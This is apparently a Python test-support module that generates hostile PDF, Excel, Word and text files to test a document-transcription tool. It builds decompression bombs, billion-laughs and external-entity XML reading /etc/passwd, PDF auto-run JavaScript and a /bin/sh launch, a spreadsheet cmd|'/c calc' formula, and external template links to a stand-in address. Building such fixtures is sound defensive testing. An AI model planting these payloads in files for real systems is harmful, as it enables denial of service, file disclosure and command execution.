"""Files that a stranger may hand to `konkyo transcribe`: bombs, loops, lies about sizes, programs, and what makes filling slow.

Each is made of a few lines here, so that none lies in the repository. None of them holds a sheet that can be read, but those
of :data:`SHEETS`, which are good ones with something in them that must not run.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from html import escape
from pathlib import Path
from tempfile import TemporaryDirectory

from support.invented_sheets import STANDARD, word, workbook

Make = Callable[[], bytes]
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
NOWHERE = "http://192.0.2.1/"


# --- PDF ------------------------------------------------------------------------------------------


def _pdf(objects: Sequence[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    out.write(b"trailer << /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start))
    return out.getvalue()


def _stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> %s >> >>"


def _one_page(
    content: bytes, more: bytes = b"", catalog: bytes = b"", objects: Sequence[bytes] = ()
) -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _PAGE % more,
            content if content.startswith(b"<<") else _stream(content),
            _FONT,
            *objects,
        ]
    )


def _text(words: bytes, times: int = 1) -> bytes:
    return b"BT /F 9 Tf 20 800 Td " + b"(%s) Tj 0 -10 Td " % words * times + b"ET"


def _deflated(size: int, unit: bytes = b" ") -> bytes:
    packer = zlib.compressobj(9)
    block = unit * (1_000_000 // len(unit))
    made = b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()
    return _stream(made, b"/Filter /FlateDecode")


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 5) for number in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 3 0 R >> >> >>"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            _FONT,
            _stream(_text(b"page", 40)),
            *[page] * count,
        ]
    )


_LOOP_IN_PAGES = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"]
_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
_CMAP = b"/CIDInit /ProcSet findresource begin begincmap 1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange endcmap"
_WIDE_FONT = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [7 0 R] /ToUnicode 8 0 R >>"
_DESCENDANT = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /W [0 [%s]] >>"
_HALVES = b"1 beginbfchar <0041> <D800> endbfchar"


def _with_cmap(cmap: bytes, codes: bytes) -> bytes:
    return _one_page(
        b"BT /G 9 Tf 20 800 Td " + b"<%s> Tj 0 -9 Td " % codes * 60 + b"ET",
        b"/Font << /G 6 0 R >>",
        objects=[_WIDE_FONT, _DESCENDANT % b"500", _stream(cmap)],
    )


PDF: dict[str, Make] = {
    "cut off": lambda: _one_page(_text(b"a", 50))[:700],
    "no table of its parts": lambda: _one_page(_text(b"a", 50)).partition(b"xref")[0],
    "parts that are not there": lambda: _one_page(_text(b"a")).replace(b"/Contents 4 0 R", b"/Contents 99 0 R"),
    "pages in a loop": lambda: _pdf(_LOOP_IN_PAGES),
    "parent of itself": lambda: _one_page(_text(b"a")).replace(b"/Parent 2 0 R", b"/Parent 3 0 R"),
    "10,000 pages": lambda: _pages(10_000),
    "more pages told than there": lambda: _one_page(_text(b"a")).replace(b"/Count 1", b"/Count 999999999"),
    "a bomb of blanks": lambda: _one_page(_deflated(800_000_000)),
    "a bomb of text": lambda: _one_page(_deflated(200_000_000, b"BT /F 9 Tf (aaaa) Tj ET ")),
    "a bomb of rules": lambda: _one_page(_deflated(60_000_000, b"1 1 m 9 9 l S ")),
    "a grid of 90,000 cells": lambda: _one_page(
        b"".join(b"%d 0 m %d 842 l S 0 %d m 595 %d l S " % (n, n, n, n) for n in range(0, 600, 2)) + _text(b"a", 80)
    ),
    "a million signs": lambda: _one_page(_text(b"a" * 1000, 1000)),
    "figures without rules": lambda: _one_page(
        b"BT /F 2 Tf " + b"".join(b"1 0 0 1 %d %d Tm (%d) Tj " % (x, y, x * y) for x in range(20, 580, 8) for y in range(20, 820, 3)) + b"ET"
    ),
    "9,000 shades": lambda: _one_page(
        b"\n".join(
            b"%.2f g %d %.2f 17 2.4 re f 0 g BT /F 2 Tf %d %.2f Td (%d) Tj ET" % (n % 7 / 20 + 0.5, x, y, x, y, n)
            for n, (y, x) in enumerate((800 - row * 2.6, 20 + column * 18) for row in range(300) for column in range(30))
        )
    ),
    "forms within themselves": lambda: _one_page(
        b"/X Do", b"/XObject << /X 6 0 R >>", objects=[_stream(b"/X Do /X Do", _FORM)]
    ),
    "a page of light years": lambda: _one_page(_text(b"a", 50)).replace(b"[0 0 595 842]", b"[0 0 9e37 9e37]"),
    "a page of less than nothing": lambda: _one_page(_text(b"a", 50)).replace(b"[0 0 595 842]", b"[0 0 -9 -9]"),
    "nested lists": lambda: _one_page(b"[" * 200_000 + b"]" * 200_000 + b" TJ"),
    "nested dictionaries": lambda: _one_page(_text(b"a"), catalog=b"/A " + b"<</A " * 50_000 + b"1" + b">>" * 50_000),
    "a program at opening": lambda: _one_page(
        _text(b"a", 50), catalog=b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\)) >>" % NOWHERE.encode()
    ),
    "a launch": lambda: _one_page(_text(b"a", 50), catalog=b"/OpenAction << /S /Launch /F (/bin/sh) >>"),
    "a password": lambda: _pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>",
         b"<< /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4 >>" % (b"o" * 32, b"u" * 32)],
        b"/Root 1 0 R /Encrypt 3 0 R /ID [(a) (b)]",
    ),
    "signs without end": lambda: _with_cmap(_CMAP, b"0041"),
    "half signs": lambda: _with_cmap(_HALVES, b"0041"),
    "numbers beyond all": lambda: _one_page(b"1e999 0 0 1e999 0 0 cm " + _text(b"a", 50)),
    "a scan": lambda: _one_page(b"0 0 595 842 re f"),
}  # fmt: skip


# --- Excel ----------------------------------------------------------------------------------------


def _zip(parts: Mapping[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def parts_of_book(sheets: int = 1) -> dict[str, str | bytes]:
    """Return the parts of a workbook, but for its sheet."""
    listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r1"/>' for n in range(1, sheets + 1))
    return {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_LINKS}"><sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_LINKS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }


def _book(sheet: str, sheets: int = 1, **more: str | bytes) -> bytes:
    return _zip({**parts_of_book(sheets), SHEET: sheet, **more})


def sheet_xml(rows: Sequence[Sequence[str]], after: str = "", start: int = 1) -> str:
    def cell(text: str) -> str:
        return f'<c t="inlineStr"><is><t>{escape(text)}</t></is></c>' if text else "<c/>"

    body = "".join(f'<row r="{n}">{"".join(map(cell, row))}</row>' for n, row in enumerate(rows, start=start))
    return f'<worksheet xmlns="{_MAIN}"><sheetData>{body}</sheetData>{after}</worksheet>'


_LAUGHS = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
_ENTITIES = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "lol">{_LAUGHS}]>'
_OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_SPANS = "".join(f'<mergeCell ref="A{n}:XFD{n + 500}"/>' for n in range(1, 3000))
_LABELS = [
    "施策名",
    "測定指標",
    "基準値",
    "実績値",
    "目標値",
    "達成",
    "当初予算",
    "執行額",
    "令和５年度",
    "合計",
]

XLSX: dict[str, Make] = {
    "a bomb of blanks (xlsx)": lambda: _book(" " * 700_000_000),
    "a bomb of rows": lambda: _book(sheet_xml([["a"] * 20] * 200_000)),
    "laughs of a billion": lambda: _book(_ENTITIES + sheet_xml([["&a9;"]]).replace("&amp;", "&")),
    "an entity from outside": lambda: _book(_OUTSIDE + sheet_xml([["&e;"]]).replace("&amp;", "&")),
    "nested XML": lambda: _book(f'<worksheet xmlns="{_MAIN}">' + "<a>" * 500_000 + "</a>" * 500_000 + "</worksheet>"),
    "spans over spans": lambda: _book(sheet_xml([["施策名", "a"]] * 400, f"<mergeCells>{_SPANS}</mergeCells>")),
    "a size that is a lie": lambda: _book(
        sheet_xml([["a", "b"]] * 30).replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    ),
    "texts that are not there": lambda: _book(
        f'<worksheet xmlns="{_MAIN}"><sheetData><row r="1"><c t="s"><v>99999999</v></c></row></sheetData></worksheet>'
    ),
    "rows before the first": lambda: _book(sheet_xml([["a"]] * 9, start=-5)),
    "5,000 sheets": lambda: _book(sheet_xml([["a"] * 9] * 20), sheets=5000),
    "one text of 60 million signs": lambda: _book(sheet_xml([["施策名", "あ" * 60_000_000]])),
    "a cut zip": lambda: _book(sheet_xml([["a"]] * 99))[:-300],
    "a part that is wrong": lambda: _zip_with_wrong_sum(_book(sheet_xml([["a"] * 50] * 99))),
    "formulas that call": lambda: _book(
        f'<worksheet xmlns="{_MAIN}"><sheetData><row r="1"><c t="str"><f>WEBSERVICE("{NOWHERE}")</f><v>a</v></c>'
        "<c t=\"str\"><f>cmd|'/c calc'!A0</f><v>b</v></c></row></sheetData></worksheet>"
    ),
    "shapes within shapes": lambda: _book(
        sheet_xml([["a"]]).replace("</worksheet>", f'<drawing xmlns:r="{_LINKS}" r:id="r1"/></worksheet>'),
        **{
            "xl/worksheets/_rels/sheet1.xml.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_LINKS}/drawing" Target="../drawings/drawing1.xml"/></Relationships>',
            "xl/drawings/drawing1.xml": f'<xdr:wsDr xmlns:xdr="{_DRAWING}/spreadsheetDrawing">' + "<xdr:grpSp>" * 30_000 + "</xdr:grpSp>" * 30_000 + "</xdr:wsDr>",
        },
    ),
    # What follows is read in no time; what fills a form has the work.
    "nothing but labels": lambda: _book(sheet_xml([_LABELS] * 1900)),
    "a thousand sheets in one": lambda: _book(sheet_xml([["政策評価書"], ["施策名", "a"], ["達成すべき目標", "b"], ["測定指標", "c"]] * 1000)),
    "brackets without end": lambda: _book(
        sheet_xml([["施策名", "（" * 200_000], ["測定指標", "１" * 200_000], ["関係部分", "第１章（" * 50_000], ["年月日", "令和" * 90_000]])
    ),
    "amounts without end": lambda: _book(sheet_xml([["施策名", "a"], ["", *["令和５年度"] * 900], *[["当初予算", *["9"] * 900]] * 20])),
}  # fmt: skip


def _zip_with_wrong_sum(data: bytes) -> bytes:
    at = data.index(b"sheet1.xml") + 200
    return data[:at] + b"\0\0\0\0" + data[at + 4 :]


# --- Word and text --------------------------------------------------------------------------------


def _letter(body: str, before: str = "") -> bytes:
    return _zip(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_LINKS}/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": f'{before}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>',
        }
    )


def _row(cell: str) -> str:
    return f"<w:tbl><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{cell}</w:tc></w:tr></w:tbl>"


_WORDS = "<w:p><w:r><w:t>施策名</w:t></w:r></w:p>"

DOCX: dict[str, Make] = {
    "tables within tables": lambda: _letter(
        "<w:tbl><w:tr><w:tc>" * 40_000 + _WORDS + "</w:tc></w:tr></w:tbl>" * 40_000
    ),
    "a cell over a billion columns": lambda: _letter(
        _row('<w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>' + _WORDS)
    ),
    "cells that begin nowhere": lambda: _letter(_row("<w:tcPr><w:vMerge/></w:tcPr>" + _WORDS) * 50),
    "laughs of a billion (docx)": lambda: _letter("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", _ENTITIES),
    "an entity from outside (docx)": lambda: _letter("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", _OUTSIDE),
    "a million paragraphs": lambda: _letter(_WORDS * 1_000_000),
}

TXT: dict[str, Make] = {
    "a line of 150 MB": lambda: "施策名".encode() * 16_000_000,
    "two million lines": lambda: "施策名\n測定指標\n".encode() * 1_000_000,
    "labels in a text": lambda: "施策名\n測定指標\n基準値\n目標値\n実績値\n令和５年度\n".encode() * 3_000,
    "UTF-16": lambda: "政策評価書\n施策名\n".encode("utf-16"),
    "control signs": lambda: ("政策評価書\x1b[31m\n施策名\x07\u202e\n" * 99).encode(),
    "figures in a text": lambda: ("政策評価書\n政策名\n" + "1,234,567 890\n" * 19_000).encode(),
}


# --- good sheets with what must not run -----------------------------------------------------------


def _sheet(ending: str, change: Callable[[zipfile.ZipFile], None]) -> bytes:
    with TemporaryDirectory() as folder:
        path = Path(folder) / f"a{ending}"
        (workbook if ending == ".xlsx" else word)(STANDARD, path)
        with zipfile.ZipFile(path, "a") as archive:
            change(archive)
        return path.read_bytes()


def _with_macro(archive: zipfile.ZipFile) -> None:
    archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Shell(calc)" * 99)


def _with_link(archive: zipfile.ZipFile) -> None:
    archive.writestr(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_LINKS}/externalLinkPath" Target="{NOWHERE}" TargetMode="External"/></Relationships>',
    )


def _with_template(archive: zipfile.ZipFile) -> None:
    archive.writestr(
        "word/_rels/settings.xml.rels",
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_LINKS}/attachedTemplate" Target="{NOWHERE}" TargetMode="External"/></Relationships>',
    )


SHEETS: dict[str, Make] = {
    "a sheet with a macro.xlsx": lambda: _sheet(".xlsx", _with_macro),
    "a sheet with a link.xlsx": lambda: _sheet(".xlsx", _with_link),
    "a sheet with a template.docx": lambda: _sheet(".docx", _with_template),
}
"""By file name."""

KINDS: dict[str, tuple[str, Make]] = {
    **{name: (".pdf", make) for name, make in PDF.items()},
    **{name: (".xlsx", make) for name, make in XLSX.items()},
    **{name: (".docx", make) for name, make in DOCX.items()},
    **{name: (".txt", make) for name, make in TXT.items()},
}
